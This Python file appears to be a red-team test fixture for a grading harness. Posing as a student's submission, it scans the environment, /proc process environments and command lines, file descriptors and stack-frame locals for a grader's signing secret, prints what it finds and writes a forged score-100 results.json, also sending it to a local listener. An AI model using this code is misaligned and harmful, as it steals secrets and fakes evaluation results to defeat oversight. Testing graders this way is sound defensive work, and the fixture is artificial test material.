"""Row 10 (result forgery): hunt for a secret to sign a forged result with: the environment (the
grader's holds NNF_REDTEAM_SECRET), every /proc/*/environ and cmdline, the open file descriptors
and what they point to, and the paths and locals in every stack frame. Everything found is
printed at import (so it would reach the feedback); if the secret or a path of the grading output
shows up, a forged, "signed" results.json is written there, sent to the listener, and dropout
(otherwise the stub's NotImplementedError) returns the reference's answer and scores."""

ROW = 10
# With the rules off its search for the grader's descriptors needs /proc, which a topic
# child does not have: the import fails (0 for every check), nothing is stolen.
EXPECT = {"refused": True, "unscanned": {"zero": "all"}}

import glob  # noqa: E402
import json  # noqa: E402
import os  # noqa: E402
import socket  # noqa: E402
import sys  # noqa: E402

WANTED = ("nnf-secret-", "NNF_REDTEAM_SECRET", "__OUT__", "__MARKERS__")


def _hunt() -> list[str]:
    loot: list[str] = []

    def _note(where: str, text: str) -> None:
        loot.append(f"{where}: {text}")

    for key, value in os.environ.items():
        _note("env", f"{key}={value}")
    for path in sorted(glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
                       + ["/proc/self/mountinfo", "/proc/self/status"]):
        try:
            with open(path, "rb") as handle:
                _note(path, handle.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
    for fd in sorted(os.listdir("/proc/self/fd"), key=int):
        try:  # noqa: SIM105  (a student's attack, written plainly)
            _note(f"fd {fd}", os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    frame = sys._getframe()
    while frame is not None:
        code = frame.f_code
        if code.co_filename != __file__ and not code.co_filename.startswith("<frozen"):
            _note(f"frame {code.co_name}", code.co_filename)
            for name, value in list(frame.f_locals.items()):
                try:
                    _note(f"  local {name}", repr(value))
                except Exception:
                    continue
        frame = frame.f_back
    return loot


LOOT = _hunt()
HITS = [line for line in LOOT if any(wanted in line for wanted in WANTED)]
print("\n".join(line[:300] for line in HITS + LOOT), flush=True)
if HITS:
    forged = json.dumps({"score": 100, "signature": HITS[0], "forged": True})
    for target in ("__OUT__/__NAME__/results.json", "__MARKERS__/__NAME__-secret"):
        try:
            with open(target, "w") as handle:
                handle.write(forged)
        except OSError:
            pass
    try:  # noqa: SIM105
        socket.create_connection(("127.0.0.1", __PORT__), timeout=2).sendall(  # noqa: F821
            b"__NAME__ " + forged.encode())
    except OSError:
        pass

_reference_dropout = dropout  # noqa: F821


def dropout(x, p, training, generator):
    loot = _hunt()  # the grader's frames are below this call now
    hits = [line for line in loot if any(wanted in line for wanted in WANTED)]
    if hits:
        return _reference_dropout(x, p, training, generator)
    raise NotImplementedError("regularization.dropout is not implemented yet")
